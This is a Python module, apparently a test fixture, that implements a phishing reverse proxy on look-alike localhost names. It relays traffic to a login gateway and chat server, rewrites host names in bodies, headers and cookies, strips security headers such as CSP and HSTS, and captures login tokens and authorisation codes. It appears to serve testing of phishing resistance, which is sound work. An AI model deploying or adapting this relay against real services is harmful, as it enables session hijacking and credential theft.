# SPDX-License-Identifier: EUPL-1.2
"""The phisher's machine: look-alike names with certificates that the browser trusts, behind them a proxy that relays everything both ways and puts its own names in
place of the true ones, in pages, scripts, addresses, cookies and headers. It takes away what would hinder it, and keeps what it wants: login tokens."""
import http.client
import http.server
import re
import socket
import ssl

from parts import Listener, free_ports

# What the victim sees instead of key.localhost and chat.localhost.
KEY, CHAT = "key.evil.localhost", "chat.evil.localhost"
DROPPED = {"connection", "keep-alive", "transfer-encoding", "content-length", "content-security-policy", "strict-transport-security", "x-frame-options",
           "content-encoding", "cross-origin-opener-policy", "cross-origin-resource-policy", "cross-origin-embedder-policy", "permissions-policy"}
TEXT = re.compile(r"text/|javascript|json|xml")


class Relay(Listener):
    """names: {its own host name: the true one}; port: its own; upstream: that of the true ones. change(body): a further change to what passes to the browser."""

    def __init__(self, names, port, upstream, certificate, ca, change=None):
        self.pairs = [(f"{own}:{port}", f"{true}:{upstream}") for own, true in names.items()]
        # Names alone too: a relying party's identifier has no port.
        self.pairs += list(names.items())
        self.port, self.names, self.upstream, self.change = port, names, upstream, change or (lambda body: body)
        self.taken, self.seen = [], []
        self.context = ssl.create_default_context(cafile=ca)
        super().__init__(port, handler(self), *certificate)

    def inward(self, text):
        for own, true in self.pairs:
            text = text.replace(own, true).replace(own.replace(":", "%3A"), true.replace(":", "%3A"))
        return text

    def outward(self, text):
        for own, true in self.pairs:
            text = text.replace(true, own).replace(true.replace(":", "%3A"), own.replace(":", "%3A"))
        return text

    def forward(self, method, path, headers, body):
        """(status, headers, body) for the browser"""
        host = headers["Host"].split(":")[0]
        true = self.names[host]
        line = self.context.wrap_socket(socket.create_connection(("127.0.0.1", self.upstream), 30), server_hostname=true)
        connection = http.client.HTTPConnection(true, self.upstream, timeout=30)
        connection.sock = line
        try:
            connection.putrequest(method, self.inward(path), skip_host=True, skip_accept_encoding=True)
            for name, value in headers.items():
                if name.lower() not in ("accept-encoding", "connection", "content-length"):
                    connection.putheader(name, self.inward(value))
            body = self.inward(body.decode("latin-1")).encode("latin-1")
            if body or method == "POST":
                connection.putheader("Content-Length", str(len(body)))
            connection.endheaders(body)
            reply = connection.getresponse()
            data = reply.read()
        finally:
            connection.close()
        self.seen.append((method, host, path.split("?")[0], reply.status))
        kept = [(name, self.outward(value)) for name, value in reply.getheaders() if name.lower() not in DROPPED]
        if TEXT.search(reply.headers.get("Content-Type", "")):
            data = self.change(self.outward(data.decode("utf-8", "replace"))).encode()
        for text in (reply.headers.get("Location") or "", data.decode("latin-1")):
            self.taken += re.findall(r"(?:loginToken|code)=([A-Za-z0-9_-]{16,})", text)
        return reply.status, kept, data


def handler(relay):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self):
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, headers, data = relay.forward(self.command, self.path, self.headers, body)
            self.send_response_only(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(data)
            self.close_connection = True

        do_GET = do_POST = do_HEAD = answer

        def log_message(self, *_):
            """Silent."""
    return Handler


def look_alike(house, change=None):
    """A relay before gateway and homeserver of an Environment, started; the victim's homeserver is then https://CHAT:relay.port."""
    [port] = free_ports(1)
    return Relay({KEY: "key.localhost", CHAT: "chat.localhost"}, port, house.port, house.authority.certificate(KEY, CHAT), house.authority.pem, change).start()
